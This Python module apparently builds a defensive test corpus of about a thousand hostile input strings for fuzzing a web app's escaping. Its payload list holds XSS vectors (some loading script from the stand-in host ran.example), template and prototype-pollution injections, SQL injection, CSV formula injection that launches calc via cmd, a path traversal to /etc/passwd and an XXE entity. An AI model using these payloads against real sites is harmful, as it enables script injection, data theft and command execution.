"""A thousand texts that are something else to a parser, a template, a regular expression or an object than to a reader.

Each that could run calls `ran()`, which the page of a test has, or asks for an address with `ran` in it.
Sources: the contexts of the OWASP cheat sheets "Cross Site Scripting Prevention" and "DOM Clobbering Prevention";
Unicode Technical Report 36 for what only looks like something.
"""

from collections.abc import Iterable
from itertools import islice, product

MOST_OF_A_NAME = 200
"""Characters."""

_RUNS = (
    "<script>ran()</script>",
    "<script src=//ran.example/x.js></script>",
    "<script type=module>import('/ran.js')</script>",
    "<img src=/ran onerror=ran()>",
    "<img src=x onerror='ran()'>",
    '<img srcset="/ran 1x" onerror="ran()">',
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran()>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=javascript:parent.ran()></iframe>",
    "<object data=javascript:ran()></object>",
    "<embed src=/ran>",
    "<a href=javascript:ran()>a link</a>",
    "<a href='data:text/html,<script>opener.ran()</script>'>a link</a>",
    "<form action=javascript:ran()><button>Send</button></form>",
    "<button formaction=javascript:ran()>Send</button>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>",
    "<video><source onerror=ran()></video>",
    "<audio src=/ran onerror=ran()></audio>",
    "<body onload=ran()>",
    "<marquee onstart=ran()>",
    "<meta http-equiv=refresh content='0;url=/ran'>",
    "<base href=//ran.example/>",
    "<link rel=stylesheet href=/ran.css>",
    "<link rel=import href=/ran>",
    "<style>@import '/ran.css'; * { background: url(/ran) }</style>",
    "<div style='background:url(/ran)'>ground</div>",
    "<template><script>ran()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<dialog open oncancel=ran()>Session expired</dialog>",
    "<div popover id=help>Call this number</div>",
    "<session-card onclick=ran()></session-card>",
    "<conversation-list></conversation-list><script>ran()</script>",
    "<x-y is=z onpointerenter=ran() style=position:fixed;inset:0>",
    "<img name=getElementById><form id=querySelector><input name=body>",
    "<form name=customElements><input name=define></form>",
    "<a id=chats><a id=chats name=chat href=/ran>",
    "javascript:ran()",
    "JaVaScRiPt:ran()//",
    "java\tscript:ran()",
    "data:text/html,<script>ran()</script>",
    "vbscript:ran()",
    "${ran()}",
    "`${ran()}`",
    "{{ran()}}",
    "{{constructor.constructor('ran()')()}}",
    "#{ran()}",
    "<%= ran() %>",
    "{%raw%}<script>ran()</script>",
    "<!--?lit$1$--><script>ran()</script>",
    "<?lit$0123456789$?><img src=x onerror=ran()>",
    "?lit$1$",
    "<!--[if IE]><script>ran()</script><![endif]-->",
    "'+ran()+'",
    '"+ran()+"',
    "';ran();//",
    '";ran();//',
    "\\';ran();//",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "\\x3cscript\\x3eran()\\x3c/script\\x3e",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "&amp;lt;img src=x onerror=ran()&amp;gt;",
    "%3Cscript%3Eran()%3C/script%3E",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "＜script＞ran()＜/script＞",
    "<ſcript>ran()</ſcript>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<<script>ran()//<</script>",
    "<script\u2028>ran()</script>",
    "<img/src=x/onerror=ran()>",
    "<img src=x onerror\u2028=ran()>",
    "[a link](javascript:ran())",
    "![picture](/ran)",
    "//ran.example/x",
    "https://ran.example/x",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "undefined",
    "[object Object]",
    "NaN",
    '{"type":"welcome","conversations":[]}',
    '{"__proto__":{"isAdmin":true}}',
    "(a+)+$",
    "$& $1 $` $'",
    "%s %d %n {0} {name}",
    "../../../../etc/passwd",
    "'; DROP TABLE messages; --",
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM '/ran'>]><x>&y;</x>",
    "]]><script>ran()</script>",
)
_AROUND = (
    ("", ""),
    ('">', '<"'),
    ("'>", "<'"),
    ("</script>", "<script>"),
    ("</textarea></title></style>", "<!--"),
    ("-->", "<!--"),
    ("\u202e", "\u202c"),
    ("Z̸̛̗a̵̘͂l̷̰̈g̶̡̛o̷͎͝ ", " 👩‍👩‍👧‍👦🏳️‍🌈"),
    ("A\u200b\u2060\ufeff\u00ad", "\u061c\u200f שלום مرحبا"),
    ("W" * 60, "\U0010fffd\ufdd0"),
    ("`", "`"),
    ("{{", "}}"),
)


def hostile_strings(count: int = 1000) -> list[str]:
    """Different ones, each of one line."""
    made = (f"{before}{text}{after}" for (before, after), text in product(_AROUND, _RUNS))
    return list(islice(dict.fromkeys(made), count))


def hostile_names(texts: Iterable[str]) -> list[str]:
    """All of them, as few names as they fit into: one holds 200 characters, and no tab."""
    names = [""]
    for text in texts:
        more = text.replace("\t", " ").strip()
        if len(names[-1]) + len(more) >= MOST_OF_A_NAME:
            names.append("")
        names[-1] = f"{names[-1]} {more}".strip()
    return names
